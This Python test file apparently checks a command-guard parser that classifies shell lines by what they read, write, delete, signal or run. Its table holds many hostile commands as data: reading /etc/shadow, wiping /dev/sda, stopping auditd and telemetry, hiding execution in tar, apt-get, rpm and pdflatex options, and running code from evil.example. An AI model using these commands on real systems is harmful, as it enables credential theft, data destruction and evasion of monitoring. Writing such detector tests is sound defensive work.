"""Files, services, containers and daily work, by a table, and the modes that files get."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from guard.parse.programs import read_program
from guard.parse.reading import UNKNOWN, Invocation

# A line -> its reading in brief; `*?*` in the line stands for a piece that nobody knows.
TABLE: dict[str, list[str]] = {
    "cat a /etc/shadow -": ["read a", "read /etc/shadow"],
    "head -5 a": ["read a"],
    "tail -f -n 10 log": ["read log"],
    "grep -rn secret /etc": ["read /etc"],
    "grep -e x -f pats a": ["read pats", "read a"],
    "rg --pre ./x pat dir": ["read dir", "run [rg --pre]: <sh> ./x"],
    "cp a b": ["read a", "write b", "write b/a"],
    "cp -r a b dir/": ["read a", "read b", "write dir/a", "write dir/b"],
    "cp -t /dst a b": ["read a", "read b", "write /dst/a", "write /dst/b"],
    "mv a b": ["read a", "delete a", "write b", "write b/a"],
    "mv a b dir/": ["read a", "delete a", "read b", "delete b", "write dir/a", "write dir/b"],
    "ln -s /usr/bin/ssh /tmp/ls": ["write /tmp/ls"],
    "install -m 755 a /usr/local/bin/b": [
        "read a",
        "write /usr/local/bin/b",
        "write /usr/local/bin/b/a",
    ],
    "install -d /x/y": ["write /x/y"],
    "rm -rf /tmp/x y": ["delete -r /tmp/x", "delete -r y"],
    "rm -- -f": ["delete -f"],
    "unlink a": ["delete a"],
    "rmdir d": ["delete d"],
    "shred -u f": ["delete f", "write f"],
    "touch a": ["append a"],
    "mkdir -p a/b": ["write a/b"],
    "chmod +x a": ["write a"],
    "chmod -x a": ["write a"],
    "chmod 4755 /usr/bin/x": ["write /usr/bin/x"],
    "chown -R root:root /x": ["write /x"],
    "tee -a log": ["append log"],
    "dd if=/dev/zero of=/dev/sda bs=1M": ["write /dev/sda"],
    "dd if=/etc/shadow": ["read /etc/shadow"],
    "truncate -s 0 log": ["write log"],
    "sort -o out in": ["write out", "read in"],
    "sort --compress-program=./x in": ["read in", "run [sort --compress-program]: <sh> ./x"],
    "split --filter='ssh h' in": ["read in", "run [split --filter]: <sh> ssh h"],
    "tar xzf a.tgz -C /opt": ["read a.tgz", "write /opt"],
    "tar czf /tmp/o.tgz a b": ["read a", "read b", "write /tmp/o.tgz"],
    "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec='ssh h'": [
        "read x",
        "run [tar --checkpoint-action]: <sh> ssh h",
    ],
    "tar xf a.tar --to-command='ssh h'": ["read a.tar", "run [tar --to-command] may: <sh> ssh h"],
    "tar -I 'ssh h' -xf a.tar": ["read a.tar", "write .", "run [tar -I]: <sh> ssh h"],
    "tar xf h:/x.tar --rsh-command=/tmp/x": [
        "connect ssh h:22",
        "write .",
        "run [tar --rsh-command]: <sh> /tmp/x",
    ],
    "tar tf a.tar": ["read a.tar"],
    "zip -r o.zip d": ["write o.zip", "read d"],
    "zip o.zip a -T -TT 'ssh h #'": ["write o.zip", "read a", "run [zip -TT]: <sh> ssh h #"],
    "unzip -o a.zip -d /x": ["read a.zip", "write /x"],
    "gzip f": ["read f", "delete f", "write f.gz"],
    "gunzip -c f.gz": ["read f.gz"],
    "patch -p1 -i fix.diff": ["read fix.diff", "? low unknown_argument"],
    "mount /dev/sdb1 /mnt": ["read /dev/sdb1", "write /mnt"],
    "mount -t nfs h:/x /mnt": ["connect nfs h:2049", "write /mnt"],
    "mkfs.ext4 /dev/sdb1": ["write /dev/sdb1"],
    "tcpdump -w o.pcap -z ./x": ["write o.pcap", "run [tcpdump -z]: <sh> ./x"],
    "gcc -o a a.c -wrapper '/bin/sh,-c'": [
        "write a",
        "read a.c",
        "run [gcc --wrapper] may: /bin/sh -c",
    ],
    "ed f": ["read f"],
    "crontab -l": ["read /var/spool/cron/crontabs/*"],
    "crontab -e": ["write /var/spool/cron/crontabs/*"],
    "crontab -r": ["delete /var/spool/cron/crontabs/*"],
    "crontab jobs": ["read jobs", "write /var/spool/cron/crontabs/*", "? medium unread_file"],
    "crontab -u bob -": ["write /var/spool/cron/crontabs/bob"],
    "at now": ["write /var/spool/cron/atjobs"],
    "systemctl stop auditd": ["signal TERM unit auditd.service"],
    "systemctl disable --now otelcol.service": [
        "signal TERM unit otelcol.service",
        "delete /etc/systemd/system/otelcol.service",
    ],
    "systemctl mask x": ["signal TERM unit x.service", "delete /etc/systemd/system/x.service"],
    "systemctl enable x": ["write /etc/systemd/system/x.service"],
    "systemctl link /tmp/x.service": ["write /etc/systemd/system/x.service", "read /tmp/x.service"],
    "systemctl status x": ["run [systemctl] may: less"],
    "systemctl --no-pager status x": [],
    "systemctl restart x": [],
    "systemctl poweroff": ["signal TERM unit *"],
    "service auditd stop": ["signal TERM unit auditd"],
    "kill 1234": ["signal TERM pid 1234"],
    "kill -9 1 2": ["signal KILL pid 1", "signal KILL pid 2"],
    "kill -s HUP %1": ["signal HUP pid %1"],
    "kill -TERM -- -99": ["signal TERM pid -99"],
    "kill -l": [],
    "pkill -9 -f otelcol": ["signal KILL pattern otelcol"],
    "pkill -KILL rocklet": ["signal KILL pattern rocklet"],
    "killall -s STOP node": ["signal STOP name node"],
    "killall -9 node": ["signal KILL name node"],
    "pkill -u bob": ["signal TERM user bob"],
    "shutdown -h now": ["signal TERM unit *"],
    "useradd -m x": ["write /etc/passwd", "write /etc/shadow", "write /etc/group"],
    "usermod -aG sudo x": ["write /etc/passwd", "write /etc/shadow", "write /etc/group"],
    "passwd root": ["write /etc/shadow"],
    "visudo": ["write /etc/sudoers"],
    "visudo -cf /etc/sudoers.d/x": [],
    "visudo --check": [],
    "insmod /tmp/x.ko": ["code kernel file /tmp/x.ko", "? medium unread_file"],
    "sysctl -w net.ipv4.ip_forward=1": ["write /proc/sys/net/ipv4/ip_forward"],
    "docker run --rm -v /:/host:ro -p 8080:80 alpine sh -c 'ssh h'": [
        "read /",
        "listen tcp :8080",
        "run [docker run] @docker:alpine: sh -c 'ssh h'",
    ],
    "docker run -d --name w -v data:/d --entrypoint /bin/sh img -c id": [
        "run [docker run] @docker:w &: /bin/sh -c id"
    ],
    "docker exec -it -u 0 web ssh h": ["run [docker exec] @docker:web: ssh h"],
    "docker -H tcp://h:2375 ps": ["connect tcp h:2375"],
    "docker compose exec web ssh h": ["run [docker compose exec] @docker:web: ssh h"],
    "docker compose up -d": ["? low unread_file"],
    "docker stop web": ["signal TERM name web"],
    "docker build -f D .": ["read D", "? low unread_file"],
    "docker ps -a": [],
    "podman run --privileged img ssh h": ["run [podman run] @podman:img: ssh h"],
    "kubectl exec -it p -n ns -- ssh h": ["run [kubectl exec] @kubectl:p: ssh h"],
    "kubectl port-forward svc/x 8080:80": ["tunnel kubectl local svc/x:80 8080>svc/x:80"],
    "kubectl get pods": [],
    "kubectl apply -f https://h/x.yaml": ["connect https h:443"],
    "lxc exec c -- ssh h": ["run [lxc exec] @lxc:c: ssh h"],
    "nix-shell -p x --run 'ssh h'": ["run [nix-shell]: <sh> ssh h"],
    "vagrant ssh -c 'ssh h'": ["run [vagrant] @vagrant:default: <sh> ssh h"],
    "apptainer exec img.sif ssh h": ["run [apptainer exec] @apptainer:img.sif: ssh h"],
    "make -j4": ["? low unread_file"],
    "make --eval='x:;ssh h'": ["? low unread_file", "run [make] may: <sh> ssh h"],
    "make SHELL=/tmp/x": ["? low unread_file", "run [make SHELL=] may: <sh> /tmp/x"],
    "npm run build": ["? low unread_file"],
    "npm exec -c 'ssh h'": ["run [npm exec -c]: <sh> ssh h"],
    "yarn dlx x": ["run [yarn dlx]: x"],
    "apt-get install -y x": [],
    "apt-get update -o APT::Update::Pre-Invoke::='ssh h'": [
        "run [apt-get -o APT::Update::Pre-Invoke::]: <sh> ssh h"
    ],
    "dpkg -i ./x.deb": ["read x.deb", "code package file x.deb", "? low unread_file"],
    "rpm --eval '%(ssh h)'": ["run [rpm --eval]: <sh> ssh h"],
    "pip install -r requirements.txt": ["read requirements.txt"],
    "cargo build --release": [],
    "go test ./...": ["? low unread_file"],
    "go run evil.example/x@latest": ["connect https evil.example:443", "? medium unknown_code"],
    "ansible h -i h, -m shell -a 'id'": [
        "connect ssh h:22",
        "run [ansible -m shell] @ssh:h: <sh> id",
    ],
    "aws s3 cp a s3://b/c": [
        "connect https amazonaws.com:443",
        "read a",
        "connect s3 b sends a",
    ],
    "gh pr list": ["connect https api.github.com:443"],
    "pdflatex -shell-escape '\\write18{ssh h}'": [
        "? medium unread_file",
        "run [\\write18]: <sh> ssh h",
    ],
    "rename 's/a/system(1)/e' f": [
        "delete f",
        "write f",
        "write *",
        "run [rename] may: <perl> s/a/system(1)/e",
    ],
    "x86_64-linux-gnu-objdump -d a": ["read a"],
    "cp k d": ["read k", "write d", "write d/k"],
    "go run main.go": ["code go file main.go", "? medium unread_file"],
}


@pytest.mark.parametrize("line", TABLE)
def test_operands_are_read_written_or_deleted(line: str, told: Callable[..., list[str]]) -> None:
    """Each operand has its role; options that run something are found."""
    assert told(line.replace("*?*", UNKNOWN)) == TABLE[line]


@pytest.mark.parametrize(
    ("line", "modes"),
    [
        ("chmod u+s a b", ["u+s", "u+s"]),
        ("chmod -R 4755 a", ["4755"]),
        ("chmod -x a", ["-"]),
        ("chmod --reference=/bin/su a", [UNKNOWN]),
        ("install -m 6755 a /b/", ["6755"]),
        ("install a b", ["755", "755"]),
        ("mkdir -m 2775 d", ["2775"]),
        ("mkdir d", [None]),
        ("cp a b/", [None]),
    ],
)
def test_the_mode_that_a_file_gets_is_told(line: str, modes: list[str | None]) -> None:
    """chmod, install and mkdir -m say which mode they set, in the words of the call."""
    reading = read_program(Invocation(line.split(maxsplit=1)[0], tuple(line.split())))
    assert reading is not None
    written = [op for op in reading.operations if op["kind"] == "file.write"]
    assert [op.get("mode") for op in written] == modes
